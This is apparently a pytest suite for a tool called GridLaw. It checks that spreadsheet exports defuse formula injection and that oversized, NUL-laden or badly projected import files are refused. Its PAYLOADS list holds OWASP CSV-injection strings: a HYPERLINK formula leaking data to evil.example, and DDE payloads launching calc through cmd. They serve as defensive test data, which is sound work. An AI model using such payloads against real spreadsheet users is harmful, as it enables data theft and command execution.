"""Hostile files in and out, through the gridlaw command line on both backends (issue 8).

Out: text a spreadsheet would run as a formula is neutralised in every CSV/XLSX GridLaw writes
(every export, the Gaps page downloads, ``--errors-out``). In: files past the documented limits,
XLSX formulas without a saved result, NUL bytes and projected or unusable coordinates are
refused with exit status 3, the row (or feature) and column named, nothing stored. The small
files live in ``tests/hostile/io_*``; the big ones are made in a temporary folder.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pytest
import streamlit as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from streamlit.testing.v1 import AppTest

import geodata.io
from grid_model.cli import main
from grid_model.imports.exporting import KINDS
from grid_model.models import Grid, Need, Worker
from tests.factories import add_need, make_community

pytestmark = pytest.mark.db

HOSTILE = Path(__file__).parent / "hostile"
ROOT = Path(__file__).resolve().parent.parent
#: Text that Excel or LibreOffice would run as a formula (OWASP, "CSV Injection").
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TODAY = "2025-04-01"


def _live(text: str) -> bool:
    """Whether a spreadsheet would read this text cell as a formula."""
    return text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _count(engine, model) -> int:
    with engine.connect() as conn:
        return conn.scalar(select(func.count()).select_from(model))


@pytest.fixture()
def url(committed_engine) -> str:
    return committed_engine.url.render_as_string(hide_password=False)


@pytest.fixture()
def payload_community(committed_engine):
    """A community whose every name, description and resident holds a formula payload."""
    with Session(committed_engine) as s, s.begin():
        c = make_community(s, n_grids=4, name=PAYLOADS[0])
        workers = [w for role in c.workers.values() for w in role]
        for i, worker in enumerate(workers):
            worker.name = PAYLOADS[i % len(PAYLOADS)]
        for i, payload in enumerate(PAYLOADS):
            add_need(
                s,
                external_id=f"=X{i}",
                grid_code=c.grid_codes[i % 4],
                description=payload,
                resident_name=PAYLOADS[(i + 1) % len(PAYLOADS)],
                resident_phone="+8613800000000",
            )
        lon, lat = c.centre(c.grid_codes[0])
        add_need(s, grid_code=None, lon=lon + 1, lat=lat, description=PAYLOADS[3])  # outside
    return lon, lat  # inside the first grid


# --- out: every spreadsheet GridLaw writes ---------------------------------------------------


def _assert_csv_defused(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) > 1
    for r, row in enumerate(rows, 1):
        for field in row:
            assert _number(field) or not _live(field), (r, field)
    return rows


def _assert_xlsx_defused(data: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = []
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not _live(cell.value), (cell.coordinate, cell.value)
        rows.append([cell.value for cell in cells])
    return rows


def _defused_payloads(rows: list[list]) -> set[str]:
    """The payloads found in a file written with the leading apostrophe (XLSX stores a
    carriage return as a line feed)."""
    cells = {v[1:] for row in rows for v in row if isinstance(v, str) and v.startswith("'")}
    return {p for p in PAYLOADS if p in cells or p.replace("\r", "\n") in cells}


@pytest.mark.parametrize("kind", KINDS)
def test_every_export_neutralises_formulas(url, payload_community, tmp_path, kind):
    for ext, check in ((".csv", _assert_csv_defused), (".xlsx", _assert_xlsx_defused)):
        path = tmp_path / f"{kind}{ext}"
        args = ["--db", url, "-q", "export", kind, str(path), "--today", TODAY]
        assert main(args) == 0
        rows = check(path.read_bytes())
        assert _defused_payloads(rows), (kind, ext, rows[:3])


def test_exports_keep_numbers_and_dates_typed(url, payload_community, tmp_path):
    path = tmp_path / "needs.xlsx"
    assert main(["--db", url, "-q", "export", "needs", str(path)]) == 0
    header, *rows = _assert_xlsx_defused(path.read_bytes())
    by_name = [dict(zip(header, row, strict=True)) for row in rows]
    assert all(isinstance(r["lon"], float) and isinstance(r["lat"], float) for r in by_name)
    assert {r["description"] for r in by_name} >= {
        "'-2+3",
        "'  =1+2",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    }
    assert {r["resident_phone"] for r in by_name} >= {"'+8613800000000"}
    assert {r["id"] for r in by_name} >= {"'=X0"}
    path = tmp_path / "workers.csv"
    assert main(["--db", url, "-q", "export", "workers", str(path)]) == 0
    header, *rows = _assert_csv_defused(path.read_bytes())
    assert all(_number(r[header.index("capacity")]) for r in rows)


def test_errors_out_neutralises_formulas(url, committed_engine, payload_community, tmp_path):
    lon, lat = payload_community
    path = tmp_path / "needs.csv"
    lines = ["编号,登记日期,经度,纬度,类别,描述"]
    lines.append(f"OK-1,2025-03-01,{lon},{lat},法律咨询,fine")
    for i, payload in enumerate(PAYLOADS):  # every one of these rows has an impossible date
        text = payload.replace('"', '""')
        lines.append(f'"@B{i}",2025-02-30,{lon},{lat},法律咨询,"{text}"')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    for ext, check in ((".csv", _assert_csv_defused), (".xlsx", _assert_xlsx_defused)):
        out = tmp_path / f"bad{ext}"
        args = ["--db", url, "-q", "import-needs", str(path), "--skip-invalid"]
        assert main([*args, "--errors-out", str(out)]) == 0
        rows = check(out.read_bytes())
        assert len(rows) == 1 + len(PAYLOADS)
        assert [r[0] for r in rows[1:]] == [f"'@B{i}" for i in range(len(PAYLOADS))]
        assert _defused_payloads(rows) == set(PAYLOADS)


def test_gaps_page_downloads_neutralise_formulas(url, payload_community, monkeypatch):
    written: list[tuple[str, bytes]] = []
    real = geodata.io.frame_to_bytes

    def recording(frame, fmt, **kw):  # the real writer; the page's bytes kept to look at
        data = real(frame, fmt, **kw)
        written.append((fmt, data))
        return data

    monkeypatch.setattr(geodata.io, "frame_to_bytes", recording)
    monkeypatch.setenv("GRIDLAW_DATABASE_URL", url)
    monkeypatch.setenv("GRIDLAW_TODAY", TODAY)
    monkeypatch.delenv("GRIDLAW_LANG", raising=False)
    st.cache_data.clear()
    at = AppTest.from_file(str(ROOT / "pages/4_覆盖缺口_Gaps.py"), default_timeout=120)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    found = set()
    for kind in at.selectbox(key="gap_kind").options:
        written.clear()
        at.selectbox(key="gap_kind").set_value(kind).run()
        assert not at.exception, [e.value for e in at.exception]
        for fmt, data in written:
            if fmt == "csv":
                found |= _defused_payloads(_assert_csv_defused(data))
            elif fmt == "xlsx":
                found |= _defused_payloads(_assert_xlsx_defused(data))
    st.cache_data.clear()
    assert found, "no gap list carried a payload: the test would prove nothing"


# --- in: files that must be refused --------------------------------------------------------


def _refused(url, engine, model, argv: list[str], capsys) -> str:
    before = _count(engine, model)
    started = time.perf_counter()
    code = main(["--db", url, *argv])
    elapsed = time.perf_counter() - started
    err = capsys.readouterr().err
    assert code == 3, err
    assert "Traceback" not in err
    assert _count(engine, model) == before
    assert elapsed < 10, f"{elapsed:.1f} s"
    return err


def _needs_file(tmp_path: Path, name: str, rows: list[str], header: str | None = None) -> Path:
    path = tmp_path / name
    header = header or "id,reported_at,lon,lat,category,description"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("io_needs_formula_no_value.xlsx", ["cell F3", "description", "formula"]),
        ("io_needs_excel_error.xlsx", ["cell C2", "lon", "#DIV/0!"]),
        ("io_needs_nul.csv", ["row 3", "NUL"]),
    ],
)
def test_hostile_needs_files_are_refused(
    url, committed_engine, payload_community, capsys, tmp_path, name, expected
):
    args = ["--lang", "en", "-q", "import-needs", str(HOSTILE / name), "--skip-invalid"]
    args += ["--errors-out", str(tmp_path / "bad.csv")]  # a file error is no row to skip
    err = _refused(url, committed_engine, Need, args, capsys)
    assert not (tmp_path / "bad.csv").exists()
    assert all(part in err for part in expected), err


def test_200_000_columns_refused_in_seconds(url, committed_engine, capsys, tmp_path):
    n = 200_000
    header = ",".join(["id", "reported_at", "lon", "lat", "category"] + [f"c{i}" for i in range(n)])
    row = ",".join(["A", "2025-03-01", "113.08", "22.6", "consultation"] + ["1"] * n)
    path = _needs_file(tmp_path, "wide.csv", [row] * 5, header=header)
    err = _refused(url, committed_engine, Need, ["--lang", "en", "import-needs", str(path)], capsys)
    assert "row 1 has 200005 columns, more than the 200 allowed" in err
    err = _refused(url, committed_engine, Need, ["--lang", "zh", "import-needs", str(path)], capsys)
    assert "第 1 行有 200005 列,最多允许 200 列" in err


def test_201_columns_refused_200_read(tmp_path):
    for n, ok in ((200, True), (201, False)):
        header = ",".join(f"c{i}" for i in range(n))
        path = _needs_file(tmp_path, f"n{n}.csv", [",".join("1" * n)], header=header)
        if ok:
            assert geodata.io.read_table(path).shape == (1, n)
        else:
            with pytest.raises(geodata.io.FileReadError, match="row 1 has 201 columns"):
                geodata.io.read_table(path)


@pytest.mark.parametrize("size", [40_000, 50 * 2**20])
def test_huge_cell_refused_in_seconds(url, committed_engine, capsys, tmp_path, size):
    rows = [
        "A,2025-03-01,113.08,22.6,consultation,short",
        f"B,2025-03-01,113.08,22.6,x,{'x' * size}",
    ]
    path = _needs_file(tmp_path, "long.csv", rows)
    err = _refused(url, committed_engine, Need, ["--lang", "en", "import-needs", str(path)], capsys)
    assert "row 3, column F ('description')" in err and "32767 allowed" in err


def _swap_in_workbook(path: Path, old: str, new: str) -> None:
    """Replace text inside a saved workbook (openpyxl itself cuts cells to Excel's limit)."""
    with zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for part, data in parts.items():
            archive.writestr(part, data.replace(old.encode(), new.encode()))


def test_huge_xlsx_cell_and_width_refused(url, committed_engine, capsys, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "reported_at", "lon", "lat", "category", "description"])
    sheet.append(["A", "2025-03-01", 113.08, 22.6, "consultation", "LONG-CELL"])
    path = tmp_path / "long.xlsx"
    book.save(path)
    _swap_in_workbook(path, "LONG-CELL", "y" * 40_000)
    err = _refused(url, committed_engine, Need, ["--lang", "en", "import-needs", str(path)], capsys)
    assert "row 2, column F ('description') holds 40000 characters" in err
    sheet["F2"] = "ok"
    sheet.cell(row=2, column=300, value="stray")
    book.save(path)
    err = _refused(url, committed_engine, Need, ["--lang", "en", "import-needs", str(path)], capsys)
    assert "row 2 has 300 columns" in err


@pytest.mark.parametrize(
    ("name", "lang", "expected"),
    [
        ("io_grids_utm.geojson", "en", "feature 1: coordinates look projected (e.g. x=500000, "),
        ("io_grids_utm.geojson", "zh", "第 1 个要素的坐标看起来是投影坐标(如 x=500000, y=2500000)"),
        ("io_grids_gauss_krueger.geojson", "en", "coordinates look projected (e.g. x=38500000"),
        ("io_grids_1e308.geojson", "en", "feature 1: coordinates are not usable numbers"),
        ("io_grids_1e308.geojson", "zh", "第 1 个要素的坐标不是可用的数"),
    ],
)
def test_hostile_grid_files_are_refused(url, committed_engine, capsys, name, lang, expected):
    path = str(HOSTILE / name)
    _assert_grids_refused(url, committed_engine, capsys, path, lang, expected)


def test_grid_name_over_the_cell_limit_refused(url, committed_engine, capsys, tmp_path):
    text = (HOSTILE / "io_grids_utm.geojson").read_text()
    path = tmp_path / "long_name.geojson"
    utm = gpd.read_file(text).set_crs("EPSG:32649", allow_override=True)
    utm.to_crs("EPSG:4326").assign(name="n" * 40_000).to_file(path)
    expected = "feature 1, field 'name' holds 40000 characters, more than the 32767 allowed"
    _assert_grids_refused(url, committed_engine, capsys, str(path), "en", expected)


def _assert_grids_refused(url, committed_engine, capsys, path, lang, expected) -> None:
    err = _refused(url, committed_engine, Grid, ["--lang", lang, "import-grids", path], capsys)
    assert expected in err, err
    if "projected" in expected:
        assert "--crs EPSG:" in err
    err = _refused(url, committed_engine, Grid, ["--lang", lang, "check-grids", path], capsys)
    assert expected in err, err


def test_projected_grids_import_with_their_crs(url, committed_engine, capsys):
    path = str(HOSTILE / "io_grids_utm.geojson")
    assert main(["--db", url, "-q", "import-grids", path, "--crs", "EPSG:32649"]) == 0
    with Session(committed_engine) as s:
        assert s.scalar(select(func.count()).select_from(Grid)) == 2
        assert _count(committed_engine, Worker) == 0
